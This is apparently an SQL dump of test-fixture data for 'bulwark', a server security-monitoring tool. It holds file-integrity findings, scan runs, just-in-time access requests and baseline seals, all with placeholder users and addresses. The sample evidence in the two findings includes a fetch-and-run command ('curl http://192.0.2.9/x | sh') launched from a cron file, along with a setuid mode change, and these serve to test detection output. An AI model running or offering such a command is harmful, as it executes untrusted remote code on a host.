BEGIN TRANSACTION;
CREATE TABLE bulwark_checkpoints (
	host TEXT NOT NULL, 
	name TEXT NOT NULL, 
	capability TEXT NOT NULL, 
	token TEXT NOT NULL, 
	at DOUBLE NOT NULL, 
	PRIMARY KEY (host, name)
);
INSERT INTO "bulwark_checkpoints" VALUES('web1','audit_events','audit','0123456789abcdef-bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb',131.0);
CREATE TABLE bulwark_coverage (
	run_id TEXT NOT NULL, 
	host TEXT NOT NULL, 
	capability TEXT NOT NULL, 
	status TEXT NOT NULL, 
	entries TEXT NOT NULL, 
	recorded DOUBLE, 
	PRIMARY KEY (run_id, host, capability), 
	FOREIGN KEY(run_id) REFERENCES bulwark_runs (id)
);
INSERT INTO "bulwark_coverage" VALUES('run-1','web1','file_integrity','checked','[{"scope": "etc", "status": "checked", "reason": null, "examined": 0, "skipped": [], "skipped_count": 0, "explained_count": 31, "note": null}]',110.0);
INSERT INTO "bulwark_coverage" VALUES('run-1','web2','file_integrity','not_checked','[{"scope": "file_integrity", "status": "not_checked", "reason": "no result arrived: web2 is unreachable", "examined": 0, "skipped": [], "skipped_count": 0}]',NULL);
INSERT INTO "bulwark_coverage" VALUES('run-2','web1','audit','checked','[{"scope": "events", "status": "checked", "reason": null, "examined": 0, "skipped": [], "skipped_count": 0, "explained_count": 0, "note": null}]',131.0);
CREATE TABLE bulwark_explained (
	run_id TEXT NOT NULL, 
	host TEXT NOT NULL, 
	capability TEXT NOT NULL, 
	position INTEGER NOT NULL, 
	scope TEXT NOT NULL, 
	"by" TEXT NOT NULL, 
	count BIGINT NOT NULL, 
	examples TEXT NOT NULL, 
	PRIMARY KEY (run_id, host, capability, position), 
	FOREIGN KEY(run_id, host, capability) REFERENCES bulwark_coverage (run_id, host, capability) ON DELETE CASCADE
);
INSERT INTO "bulwark_explained" VALUES('run-1','web1','file_integrity',0,'etc','openssh-server 1:10.0',31,'["/usr/sbin/sshd"]');
CREATE TABLE bulwark_findings (
	uid TEXT NOT NULL, 
	host TEXT NOT NULL, 
	capability TEXT NOT NULL, 
	alert TEXT NOT NULL, 
	kind TEXT NOT NULL, 
	lifecycle TEXT NOT NULL, 
	scope TEXT NOT NULL, 
	subject TEXT NOT NULL, 
	severity_id INTEGER NOT NULL, 
	status TEXT NOT NULL, 
	status_since DOUBLE NOT NULL, 
	status_by TEXT, 
	status_reason TEXT, 
	suppressed_at DOUBLE, 
	suppressed_until DOUBLE, 
	suppressed_by TEXT, 
	suppressed_reason TEXT, 
	suppressed_severity INTEGER, 
	first_seen DOUBLE NOT NULL, 
	last_seen DOUBLE NOT NULL, 
	occurred DOUBLE NOT NULL, 
	last_run TEXT NOT NULL, 
	count INTEGER NOT NULL, 
	reopened INTEGER NOT NULL, 
	event TEXT NOT NULL, 
	PRIMARY KEY (uid)
);
INSERT INTO "bulwark_findings" VALUES('01abe873-b21a-5859-a19a-2db44c14c8a3','web1','file_integrity','test_alert_state','alert','state','etc','/etc/shadow',3,'open',120.0,NULL,NULL,120.0,NULL,'bob','known',3,110.0,110.0,0.0,'run-1',1,0,'{"category_uid":2,"category_name":"Findings","class_uid":2004,"class_name":"Detection Finding","time":0,"start_time":0,"end_time":0,"count":1,"severity_id":3,"severity":"Medium","message":"A file was changed: /etc/shadow","finding_info":{"uid":"01abe873-b21a-5859-a19a-2db44c14c8a3","title":"A file was changed","desc":"What it means.","types":["file_integrity"],"analytic":{"type_id":1,"type":"Rule","uid":"test_alert_state","name":"A file was changed"},"attacks":[{"tactic":{"uid":"TA0003","name":"Persistence"},"technique":{"uid":"T1053","name":"Scheduled Task/Job"},"sub_technique":{"uid":"T1053.003","name":"Cron"}},{"tactic":{"uid":"TA0040","name":"Impact"},"technique":{"uid":"T1485","name":"Data Destruction"}}],"product":{"name":"bulwark.servers","vendor_name":"Bulwark","version":"0.1.0"},"created_time":0,"first_seen_time":0,"last_seen_time":0,"modified_time":0},"device":{"hostname":"web1","name":"web1","type_id":0,"type":"Unknown"},"resources":[{"name":"/etc/shadow","hostname":"web1","type":"file"}],"metadata":{"version":"1.5.0","product":{"name":"bulwark.servers","vendor_name":"Bulwark","version":"0.1.0"},"profiles":["host"],"event_code":"test_alert_state","logged_time":0,"uid":"6b4c577c-b357-5979-98ba-48c47237443b"},"unmapped":{"capability":"file_integrity","alert":"test_alert_state","scope":"etc","subject":"/etc/shadow","lifecycle":"state","kind":"alert","status":"new"},"remediation":{"desc":"What to do.","references":["https://example.com/what-to-do"]},"evidences":[{"file":{"name":"backup","path":"/etc/cron.d/backup","parent_folder":"/etc/cron.d","type_id":1,"type":"Regular File","size":1099511627776,"owner":{"name":"root","uid":"0"},"modified_time":1780000000000,"hashes":[{"algorithm_id":3,"algorithm":"SHA-256","value":"abababababababababababababababababababababababababababababababab"}],"security_descriptor":"u:object_r:system_cron_spool_t:s0","xattributes":{"mode":"0644","acl":["user::rw-"]}},"data":{"changed":{"mode":{"before":"0644","after":"4755"}}}},{"process":{"name":"sh","pid":4711,"cmd_line":"sh -c ''curl http://192.0.2.9/x | sh''","file":{"name":"backup","path":"/etc/cron.d/backup","parent_folder":"/etc/cron.d","type_id":1,"type":"Regular File","size":1099511627776,"owner":{"name":"root","uid":"0"},"modified_time":1780000000000,"hashes":[{"algorithm_id":3,"algorithm":"SHA-256","value":"abababababababababababababababababababababababababababababababab"}],"security_descriptor":"u:object_r:system_cron_spool_t:s0","xattributes":{"mode":"0644","acl":["user::rw-"]}},"user":{"name":"www-data","uid":"33","groups":[{"name":"www-data","uid":"33"}]},"created_time":1780000000000,"parent_process":{"pid":1}},"actor":{"process":{"name":"sh","pid":4711,"cmd_line":"sh -c ''curl http://192.0.2.9/x | sh''","file":{"name":"backup","path":"/etc/cron.d/backup","parent_folder":"/etc/cron.d","type_id":1,"type":"Regular File","size":1099511627776,"owner":{"name":"root","uid":"0"},"modified_time":1780000000000,"hashes":[{"algorithm_id":3,"algorithm":"SHA-256","value":"abababababababababababababababababababababababababababababababab"}],"security_descriptor":"u:object_r:system_cron_spool_t:s0","xattributes":{"mode":"0644","acl":["user::rw-"]}},"user":{"name":"www-data","uid":"33","groups":[{"name":"www-data","uid":"33"}]},"created_time":1780000000000,"parent_process":{"pid":1}}}},{"user":{"name":"eve"},"src_endpoint":{"ip":"2001:db8::1","port":4444}},{"container":{"uid":"a1","image":{"uid":"sha256:1","name":"nginx"}},"data":1},{"job":{"name":"backup","file":{"name":"backup","path":"/etc/cron.d/backup","parent_folder":"/etc/cron.d","type_id":1,"type":"Regular File","size":1099511627776,"owner":{"name":"root","uid":"0"},"modified_time":1780000000000,"hashes":[{"algorithm_id":3,"algorithm":"SHA-256","value":"abababababababababababababababababababababababababababababababab"}],"security_descriptor":"u:object_r:system_cron_spool_t:s0","xattributes":{"mode":"0644","acl":["user::rw-"]}},"cmd_line":"/usr/bin/backup"}},{"connection_info":{"direction_id":1,"protocol_name":"tcp","protocol_num":6}},{"script":{"type_id":3,"script_content":{"value":"import os"}}},{"reg_key":{"path":"HKLM\\\\Software"},"reg_value":{"path":"HKLM","name":"Run","data":{"x":[1]}}},{"url":{"url_string":"http://192.0.2.9/x","port":80}}],"activity_id":1,"activity_name":"Create","type_uid":200401,"type_name":"Detection Finding: Create","status_id":1,"status":"New","is_alert":true}');
INSERT INTO "bulwark_findings" VALUES('9477fd50-3aed-5293-b086-f5f8bc9480fa','web1','file_integrity','test_alert_state','alert','state','etc','/etc/passwd',3,'new',110.0,NULL,NULL,NULL,NULL,NULL,NULL,NULL,110.0,110.0,0.0,'run-1',1,0,'{"category_uid":2,"category_name":"Findings","class_uid":2004,"class_name":"Detection Finding","time":0,"start_time":0,"end_time":0,"count":1,"severity_id":3,"severity":"Medium","message":"A file was changed: /etc/passwd","finding_info":{"uid":"9477fd50-3aed-5293-b086-f5f8bc9480fa","title":"A file was changed","desc":"What it means.","types":["file_integrity"],"analytic":{"type_id":1,"type":"Rule","uid":"test_alert_state","name":"A file was changed"},"attacks":[{"tactic":{"uid":"TA0003","name":"Persistence"},"technique":{"uid":"T1053","name":"Scheduled Task/Job"},"sub_technique":{"uid":"T1053.003","name":"Cron"}},{"tactic":{"uid":"TA0040","name":"Impact"},"technique":{"uid":"T1485","name":"Data Destruction"}}],"product":{"name":"bulwark.servers","vendor_name":"Bulwark","version":"0.1.0"},"created_time":0,"first_seen_time":0,"last_seen_time":0,"modified_time":0},"device":{"hostname":"web1","name":"web1","type_id":0,"type":"Unknown"},"resources":[{"name":"/etc/passwd","hostname":"web1","type":"file"}],"metadata":{"version":"1.5.0","product":{"name":"bulwark.servers","vendor_name":"Bulwark","version":"0.1.0"},"profiles":["host"],"event_code":"test_alert_state","logged_time":0,"uid":"8ffea607-af74-5781-91e9-2a2c46824370"},"unmapped":{"capability":"file_integrity","alert":"test_alert_state","scope":"etc","subject":"/etc/passwd","lifecycle":"state","kind":"alert","status":"new"},"remediation":{"desc":"What to do.","references":["https://example.com/what-to-do"]},"evidences":[{"file":{"name":"backup","path":"/etc/cron.d/backup","parent_folder":"/etc/cron.d","type_id":1,"type":"Regular File","size":1099511627776,"owner":{"name":"root","uid":"0"},"modified_time":1780000000000,"hashes":[{"algorithm_id":3,"algorithm":"SHA-256","value":"abababababababababababababababababababababababababababababababab"}],"security_descriptor":"u:object_r:system_cron_spool_t:s0","xattributes":{"mode":"0644","acl":["user::rw-"]}},"data":{"changed":{"mode":{"before":"0644","after":"4755"}}}},{"process":{"name":"sh","pid":4711,"cmd_line":"sh -c ''curl http://192.0.2.9/x | sh''","file":{"name":"backup","path":"/etc/cron.d/backup","parent_folder":"/etc/cron.d","type_id":1,"type":"Regular File","size":1099511627776,"owner":{"name":"root","uid":"0"},"modified_time":1780000000000,"hashes":[{"algorithm_id":3,"algorithm":"SHA-256","value":"abababababababababababababababababababababababababababababababab"}],"security_descriptor":"u:object_r:system_cron_spool_t:s0","xattributes":{"mode":"0644","acl":["user::rw-"]}},"user":{"name":"www-data","uid":"33","groups":[{"name":"www-data","uid":"33"}]},"created_time":1780000000000,"parent_process":{"pid":1}},"actor":{"process":{"name":"sh","pid":4711,"cmd_line":"sh -c ''curl http://192.0.2.9/x | sh''","file":{"name":"backup","path":"/etc/cron.d/backup","parent_folder":"/etc/cron.d","type_id":1,"type":"Regular File","size":1099511627776,"owner":{"name":"root","uid":"0"},"modified_time":1780000000000,"hashes":[{"algorithm_id":3,"algorithm":"SHA-256","value":"abababababababababababababababababababababababababababababababab"}],"security_descriptor":"u:object_r:system_cron_spool_t:s0","xattributes":{"mode":"0644","acl":["user::rw-"]}},"user":{"name":"www-data","uid":"33","groups":[{"name":"www-data","uid":"33"}]},"created_time":1780000000000,"parent_process":{"pid":1}}}},{"user":{"name":"eve"},"src_endpoint":{"ip":"2001:db8::1","port":4444}},{"container":{"uid":"a1","image":{"uid":"sha256:1","name":"nginx"}},"data":1},{"job":{"name":"backup","file":{"name":"backup","path":"/etc/cron.d/backup","parent_folder":"/etc/cron.d","type_id":1,"type":"Regular File","size":1099511627776,"owner":{"name":"root","uid":"0"},"modified_time":1780000000000,"hashes":[{"algorithm_id":3,"algorithm":"SHA-256","value":"abababababababababababababababababababababababababababababababab"}],"security_descriptor":"u:object_r:system_cron_spool_t:s0","xattributes":{"mode":"0644","acl":["user::rw-"]}},"cmd_line":"/usr/bin/backup"}},{"connection_info":{"direction_id":1,"protocol_name":"tcp","protocol_num":6}},{"script":{"type_id":3,"script_content":{"value":"import os"}}},{"reg_key":{"path":"HKLM\\\\Software"},"reg_value":{"path":"HKLM","name":"Run","data":{"x":[1]}}},{"url":{"url_string":"http://192.0.2.9/x","port":80}}],"activity_id":1,"activity_name":"Create","type_uid":200401,"type_name":"Detection Finding: Create","status_id":1,"status":"New","is_alert":true}');
CREATE TABLE bulwark_history (
	id INTEGER NOT NULL, 
	at DOUBLE NOT NULL, 
	uid TEXT NOT NULL, 
	host TEXT NOT NULL, 
	action TEXT NOT NULL, 
	before_severity INTEGER, 
	after_severity INTEGER, 
	"by" TEXT, 
	reason TEXT, 
	run_id TEXT, 
	PRIMARY KEY (id), 
	FOREIGN KEY(uid) REFERENCES bulwark_findings (uid) ON DELETE CASCADE
);
INSERT INTO "bulwark_history" VALUES(1,110.0,'01abe873-b21a-5859-a19a-2db44c14c8a3','web1','new',NULL,3,NULL,NULL,'run-1');
INSERT INTO "bulwark_history" VALUES(2,110.0,'9477fd50-3aed-5293-b086-f5f8bc9480fa','web1','new',NULL,3,NULL,NULL,'run-1');
INSERT INTO "bulwark_history" VALUES(3,120.0,'01abe873-b21a-5859-a19a-2db44c14c8a3','web1','suppressed',3,NULL,'bob','known',NULL);
CREATE TABLE bulwark_jit_history (
	id INTEGER NOT NULL, 
	at DOUBLE NOT NULL, 
	request TEXT NOT NULL, 
	host TEXT NOT NULL, 
	state TEXT NOT NULL, 
	"by" TEXT NOT NULL, 
	reason TEXT NOT NULL, 
	account TEXT, 
	login TEXT, 
	asserted TEXT, 
	PRIMARY KEY (id), 
	FOREIGN KEY(request) REFERENCES bulwark_jit_requests (id)
);
INSERT INTO "bulwark_jit_history" VALUES(1,200.0,'ff4852bb-f370-414a-b2b5-a21c9b48ee2e','web-open','requested','alice','CHG-1','alice',NULL,NULL);
INSERT INTO "bulwark_jit_history" VALUES(2,210.0,'ff4852bb-f370-414a-b2b5-a21c9b48ee2e','web-open','approved','bob','CHG-3','bob','carol',NULL);
INSERT INTO "bulwark_jit_history" VALUES(3,220.0,'ff4852bb-f370-414a-b2b5-a21c9b48ee2e','web-open','opening','alice','','alice',NULL,NULL);
INSERT INTO "bulwark_jit_history" VALUES(4,230.0,'ff4852bb-f370-414a-b2b5-a21c9b48ee2e','web-open','open','alice','','alice',NULL,NULL);
INSERT INTO "bulwark_jit_history" VALUES(5,200.0,'897657bd-c0a7-4b12-b0e4-6ed730be267e','web-opening','requested','alice','CHG-1','alice',NULL,NULL);
INSERT INTO "bulwark_jit_history" VALUES(6,210.0,'897657bd-c0a7-4b12-b0e4-6ed730be267e','web-opening','approved','bob','CHG-3','bob','carol',NULL);
INSERT INTO "bulwark_jit_history" VALUES(7,220.0,'897657bd-c0a7-4b12-b0e4-6ed730be267e','web-opening','opening','alice','','alice',NULL,NULL);
INSERT INTO "bulwark_jit_history" VALUES(8,200.0,'2d020ebb-e5f0-4486-8db9-c31e62237305','web-approved','requested','alice','CHG-1','alice',NULL,NULL);
INSERT INTO "bulwark_jit_history" VALUES(9,210.0,'2d020ebb-e5f0-4486-8db9-c31e62237305','web-approved','approved','bob','CHG-3','bob','carol',NULL);
INSERT INTO "bulwark_jit_history" VALUES(10,200.0,'10711b7a-b5f3-4505-97c6-21db10cd8c6a','web-requested','requested','alice','CHG-1','alice',NULL,NULL);
INSERT INTO "bulwark_jit_history" VALUES(11,200.0,'81ea68a7-f8bb-4410-a8dc-df1e9fa8576f','web-denied','requested','alice','CHG-1','alice',NULL,NULL);
INSERT INTO "bulwark_jit_history" VALUES(12,205.0,'81ea68a7-f8bb-4410-a8dc-df1e9fa8576f','web-denied','denied','bob','no','bob','carol',NULL);
INSERT INTO "bulwark_jit_history" VALUES(13,200.0,'1069a0b5-347b-4292-8ded-bf753892941b','web-closed','requested','alice','CHG-1','alice',NULL,NULL);
INSERT INTO "bulwark_jit_history" VALUES(14,210.0,'1069a0b5-347b-4292-8ded-bf753892941b','web-closed','approved','bob','CHG-3','bob','carol',NULL);
INSERT INTO "bulwark_jit_history" VALUES(15,220.0,'1069a0b5-347b-4292-8ded-bf753892941b','web-closed','opening','alice','','alice',NULL,NULL);
INSERT INTO "bulwark_jit_history" VALUES(16,230.0,'1069a0b5-347b-4292-8ded-bf753892941b','web-closed','open','alice','','alice',NULL,NULL);
INSERT INTO "bulwark_jit_history" VALUES(17,300.0,'1069a0b5-347b-4292-8ded-bf753892941b','web-closed','closed','bob','done','bob','carol',NULL);
CREATE TABLE bulwark_jit_requests (
	id TEXT NOT NULL, 
	host TEXT NOT NULL, 
	ports TEXT NOT NULL, 
	protocol TEXT NOT NULL, 
	sources TEXT NOT NULL, 
	duration INTEGER NOT NULL, 
	requested_by TEXT NOT NULL, 
	for_whom TEXT NOT NULL, 
	justification TEXT NOT NULL, 
	requested_at DOUBLE NOT NULL, 
	valid_until DOUBLE NOT NULL, 
	state TEXT NOT NULL, 
	decided_by TEXT, 
	decided_at DOUBLE, 
	decision_reason TEXT, 
	opened_by TEXT, 
	opened_at DOUBLE, 
	until DOUBLE, 
	grant_id TEXT, 
	ended_by TEXT, 
	ended_at DOUBLE, 
	end_reason TEXT, 
	requested_account TEXT, 
	requested_login TEXT, 
	requested_asserted TEXT, 
	decided_account TEXT, 
	decided_login TEXT, 
	decided_asserted TEXT, 
	opened_account TEXT, 
	opened_login TEXT, 
	opened_asserted TEXT, 
	ended_account TEXT, 
	ended_login TEXT, 
	ended_asserted TEXT, 
	used_packets BIGINT, 
	used_bytes BIGINT, 
	used_first DOUBLE, 
	used_last DOUBLE, 
	PRIMARY KEY (id)
);
INSERT INTO "bulwark_jit_requests" VALUES('ff4852bb-f370-414a-b2b5-a21c9b48ee2e','web-open','["22", "8000-8100"]','tcp','["192.0.2.7", "2001:db8::/48"]',3600,'alice','alice','CHG-1',200.0,86600.0,'open','bob',210.0,'CHG-3','alice',220.0,3820.0,'g-open',NULL,NULL,NULL,'alice',NULL,NULL,'bob','carol',NULL,'alice',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL);
INSERT INTO "bulwark_jit_requests" VALUES('897657bd-c0a7-4b12-b0e4-6ed730be267e','web-opening','["22", "8000-8100"]','tcp','["192.0.2.7", "2001:db8::/48"]',3600,'alice','alice','CHG-1',200.0,86600.0,'opening','bob',210.0,'CHG-3','alice',220.0,3820.0,NULL,NULL,NULL,NULL,'alice',NULL,NULL,'bob','carol',NULL,'alice',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL);
INSERT INTO "bulwark_jit_requests" VALUES('2d020ebb-e5f0-4486-8db9-c31e62237305','web-approved','["22", "8000-8100"]','tcp','["192.0.2.7", "2001:db8::/48"]',3600,'alice','alice','CHG-1',200.0,86600.0,'approved','bob',210.0,'CHG-3',NULL,NULL,NULL,NULL,NULL,NULL,NULL,'alice',NULL,NULL,'bob','carol',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL);
INSERT INTO "bulwark_jit_requests" VALUES('10711b7a-b5f3-4505-97c6-21db10cd8c6a','web-requested','["22", "8000-8100"]','tcp','["192.0.2.7", "2001:db8::/48"]',3600,'alice','alice','CHG-1',200.0,86600.0,'requested',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,'alice',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL);
INSERT INTO "bulwark_jit_requests" VALUES('81ea68a7-f8bb-4410-a8dc-df1e9fa8576f','web-denied','["22", "8000-8100"]','tcp','["192.0.2.7", "2001:db8::/48"]',3600,'alice','alice','CHG-1',200.0,86600.0,'denied','bob',205.0,'no',NULL,NULL,NULL,NULL,NULL,NULL,NULL,'alice',NULL,NULL,'bob','carol',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL);
INSERT INTO "bulwark_jit_requests" VALUES('1069a0b5-347b-4292-8ded-bf753892941b','web-closed','["22", "8000-8100"]','tcp','["192.0.2.7", "2001:db8::/48"]',3600,'alice','alice','CHG-1',200.0,86600.0,'closed','bob',210.0,'CHG-3','alice',220.0,3820.0,'g-closed','bob',300.0,'done','alice',NULL,NULL,'bob','carol',NULL,'alice',NULL,NULL,'bob','carol',NULL,NULL,NULL,NULL,NULL);
CREATE TABLE bulwark_latest (
	host TEXT NOT NULL, 
	capability TEXT NOT NULL, 
	run_id TEXT NOT NULL, 
	started DOUBLE NOT NULL, 
	checked DOUBLE, 
	PRIMARY KEY (host, capability)
);
INSERT INTO "bulwark_latest" VALUES('web1','file_integrity','run-1',100.0,110.0);
INSERT INTO "bulwark_latest" VALUES('web2','file_integrity','run-1',100.0,NULL);
INSERT INTO "bulwark_latest" VALUES('web1','audit','run-2',130.0,131.0);
CREATE TABLE bulwark_runs (
	id TEXT NOT NULL, 
	started DOUBLE NOT NULL, 
	finished DOUBLE, 
	playbook TEXT NOT NULL, 
	user TEXT NOT NULL, 
	controller TEXT NOT NULL, 
	version TEXT NOT NULL, 
	PRIMARY KEY (id)
);
INSERT INTO "bulwark_runs" VALUES('run-1',100.0,140.0,'scan','alice','control1','0.1.0');
INSERT INTO "bulwark_runs" VALUES('run-2',130.0,NULL,'scan','alice','control1','0.1.0');
CREATE TABLE bulwark_schema (
	id INTEGER NOT NULL, 
	version INTEGER NOT NULL, 
	PRIMARY KEY (id)
);
INSERT INTO "bulwark_schema" VALUES(1,5);
CREATE TABLE bulwark_seal_history (
	id INTEGER NOT NULL, 
	at DOUBLE NOT NULL, 
	host TEXT NOT NULL, 
	name TEXT NOT NULL, 
	action TEXT NOT NULL, 
	digest TEXT, 
	"by" TEXT, 
	reason TEXT, 
	accepted TEXT, 
	PRIMARY KEY (id)
);
INSERT INTO "bulwark_seal_history" VALUES(1,150.0,'web1','default','proposed','aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa','alice','First baseline.',NULL);
INSERT INTO "bulwark_seal_history" VALUES(2,151.0,'web1','default','confirmed','aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa','alice','First baseline.',NULL);
INSERT INTO "bulwark_seal_history" VALUES(3,152.0,'web1','default','proposed','cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc','alice','CHG-2',NULL);
CREATE TABLE bulwark_seals (
	host TEXT NOT NULL, 
	name TEXT NOT NULL, 
	digest TEXT, 
	next_digest TEXT, 
	proposed_at DOUBLE, 
	sealed_at DOUBLE, 
	"by" TEXT NOT NULL, 
	reason TEXT NOT NULL, 
	accepted TEXT, 
	PRIMARY KEY (host, name)
);
INSERT INTO "bulwark_seals" VALUES('web1','default','aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa','cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc',152.0,151.0,'alice','CHG-2',NULL);
CREATE TABLE bulwark_suppressions (
	id TEXT NOT NULL, 
	alert TEXT NOT NULL, 
	host TEXT NOT NULL, 
	subject TEXT NOT NULL, 
	reason TEXT NOT NULL, 
	"by" TEXT NOT NULL, 
	created DOUBLE NOT NULL, 
	until DOUBLE, 
	PRIMARY KEY (id)
);
CREATE INDEX ix_bulwark_runs_started ON bulwark_runs (started);
CREATE INDEX ix_bulwark_latest_run_id ON bulwark_latest (run_id);
CREATE INDEX ix_bulwark_findings_last_seen ON bulwark_findings (last_seen);
CREATE INDEX ix_bulwark_findings_host ON bulwark_findings (host, capability);
CREATE INDEX ix_bulwark_findings_order ON bulwark_findings (severity_id DESC, last_seen DESC, uid);
CREATE INDEX ix_bulwark_findings_alert ON bulwark_findings (alert);
CREATE INDEX ix_bulwark_seal_history_seal ON bulwark_seal_history (host, name);
CREATE INDEX ix_bulwark_jit_requests_state ON bulwark_jit_requests (state);
CREATE INDEX ix_bulwark_jit_requests_host ON bulwark_jit_requests (host);
CREATE INDEX ix_bulwark_jit_requests_requested_at ON bulwark_jit_requests (requested_at);
CREATE INDEX ix_bulwark_coverage_host ON bulwark_coverage (host, capability);
CREATE INDEX ix_bulwark_history_uid ON bulwark_history (uid);
CREATE INDEX ix_bulwark_history_at ON bulwark_history (at);
CREATE INDEX ix_bulwark_jit_history_request ON bulwark_jit_history (request);
CREATE INDEX ix_bulwark_explained_by ON bulwark_explained ("by");
COMMIT;
